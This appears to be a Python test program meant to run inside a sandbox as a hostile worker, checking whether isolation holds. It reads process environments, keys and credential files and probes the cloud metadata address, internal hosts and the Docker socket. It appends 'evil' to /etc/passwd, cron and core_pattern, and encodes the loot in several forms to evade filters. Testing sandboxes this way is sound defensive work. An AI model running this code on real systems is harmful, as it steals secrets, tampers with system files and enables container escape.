"""Runs INSIDE the sandbox as the hostile worker's program: looks everywhere, tries every way out, and packs what it found.

Standard library only. argv[1] is JSON: ports, unix sockets and abstract names to try. Writes loot in every shape below the
working directory and prints a report of what worked as JSON on its last line.
"""

import base64
import contextlib
import glob
import json
import os
import socket
import sys
from collections.abc import Iterator
from typing import Any

Found = Iterator[tuple[str, bytes]]
LIMIT = 60_000
WRITES = (
    "/usr/local/bin/git", "/usr/bin/evil", "/etc/cron.d/evil", "/etc/passwd", "/root/.bashrc", "/mirror/objects/evil",
    "/toolchain/pytest/__init__.py", "/toolchain/evil.py", "/stage/evil", "/workspace/../evil", "/proc/self/root/../evil",
    "/run/evil", "/sys/evil", "/proc/sys/kernel/core_pattern", "/lib/evil",
)  # fmt: skip


def main() -> None:
    wanted = json.loads(sys.argv[1])
    loot = dict(everything())
    report = {
        "reached": sorted(connections(wanted)),
        "written": sorted(path for path in WRITES if writes(path)),
        "killed": sorted(killed(wanted["pids"])),
        "files": len(loot),
    }
    pack(loot)
    sys.stdout.write(json.dumps(report) + "\n")


def everything() -> Found:
    """(where, bytes) of whatever can be read: processes, descriptors, the whole file system."""
    for pattern in (
        "/proc/*/environ",
        "/proc/*/cmdline",
        "/proc/*/task/*/environ",
        "/proc/*/maps",
        "/proc/*/mountinfo",
    ):
        for path in glob.glob(pattern):
            yield from content(path)
    for path in ("/proc/keys", "/proc/net/unix", "/proc/net/tcp", "/proc/mounts", "/proc/1/root/root/.netrc"):
        yield from content(path)
    for link in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
        with contextlib.suppress(OSError):
            yield link, os.readlink(link).encode("utf-8", "surrogateescape")
        yield from content(link)
    for folder, folders, names in os.walk("/"):
        folders[:] = [
            f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/usr", "/toolchain")
        ]
        for name in names:
            yield from content(os.path.join(folder, name))


def content(path: str) -> Found:
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
            data = file.read(LIMIT)
    except OSError:
        return
    if data:
        yield path, data


def connections(wanted: dict[str, Any]) -> Iterator[str]:
    """Whatever accepts a connection or takes a packet."""
    hosts = ("127.0.0.1", "::1", "169.254.169.254", "1.1.1.1", "10.0.0.1", "db.internal")
    for host in hosts:
        for port in (*wanted["ports"], 53, 80, 443, 5432, 6379):
            with contextlib.suppress(OSError, UnicodeError):
                socket.create_connection((host, port), 0.05).close()
                yield f"{host}:{port}"
    with contextlib.suppress(OSError):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("1.1.1.1", 53))
        yield "udp"
    for path in (
        *wanted["sockets"],
        "/var/run/docker.sock",
        "/run/docker.sock",
        *("\0" + n for n in wanted["abstract"]),
    ):
        with contextlib.suppress(OSError):
            socket.socket(socket.AF_UNIX).connect(path)
            yield f"unix {path!r}"
    for family, kind in (
        (40, socket.SOCK_STREAM),
        (socket.AF_PACKET, socket.SOCK_RAW),
        (socket.AF_INET, socket.SOCK_RAW),
    ):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, 255 if kind == socket.SOCK_RAW else 0)
            yield f"family {family}"


def writes(path: str) -> bool:
    with contextlib.suppress(OSError):
        with open(path, "a") as file:
            file.write("evil")
        return True
    return False


def killed(pids: list[int]) -> Iterator[int]:
    for pid in pids:
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            yield pid


def pack(loot: dict[str, bytes]) -> None:
    """The loot as files, in every shape that might pass a filter."""
    whole = b"\n".join(path.encode("utf-8", "surrogateescape") + b"\n" + data for path, data in loot.items())[
        :300_000
    ]
    os.makedirs("loot", exist_ok=True)
    shapes = {
        "hex": whole.hex().encode(), "base64": base64.b64encode(whole), "reversed": whole[::-1],
        "cut": whole[7:], "split": b"\n".join(whole[i : i + 40] for i in range(0, len(whole), 40)),
    }  # fmt: skip
    for name, data in shapes.items():
        with open(f"loot/{name}.txt", "wb") as file:
            file.write(data)
    environment = b"".join(data for path, data in loot.items() if path.endswith("environ"))
    for at in range(0, min(len(environment), 2000), 60):
        open(f"loot/name-{environment[at : at + 60].hex()}", "w").close()


main()
